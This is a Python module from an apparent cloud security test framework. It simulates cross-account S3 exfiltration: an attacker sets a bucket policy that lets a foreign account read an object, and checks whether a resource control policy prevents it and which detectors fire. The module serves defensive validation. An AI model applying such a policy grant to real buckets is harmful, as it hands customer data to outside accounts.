"""Let a foreign account read a bucket by its policy: not public, so Block Public Access has nothing against it."""

from bastide.attack.stage import Stage, policy
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A stranger reads a bucket by its policy",
    mitre=("T1537", "T1530"),
    tactic="exfiltration",
    detectors=("IAM Access Analyzer: external access to a bucket", "GuardDuty Exfiltration:S3/AnomalousBehavior"),
    expected=Prevented("perimeter-identity-rcp"),
    source='Amazon S3 User Guide, "Bucket owner granting cross-account bucket permissions"',
)


def prepare(stage: Stage) -> Scene:
    """A bucket with something in it."""
    return {"bucket": stage.bucket("customers")}


def attack(stage: Stage, scene: Scene) -> None:
    """Allow the stranger's account, and read from there."""
    objects = f"arn:aws:s3:::{scene['bucket']}/*"
    stranger = {"AWS": f"arn:aws:iam::{stage.outsider}:root"}
    allowed = policy({"Effect": "Allow", "Principal": stranger, "Action": "s3:GetObject", "Resource": objects})
    stage.attacker().client("s3").put_bucket_policy(Bucket=scene["bucket"], Policy=allowed)
    found = stage.stranger().client("s3").get_object(Bucket=scene["bucket"], Key="customers.csv")
    scene["read"] = found["Body"].read()


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The stranger has the object."""
    held = stage.owner().client("s3").get_object(Bucket=scene["bucket"], Key="customers.csv")["Body"].read()
    return bool(scene.get("read") == held)


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the bucket."""
    stage.drop_bucket(scene["bucket"])
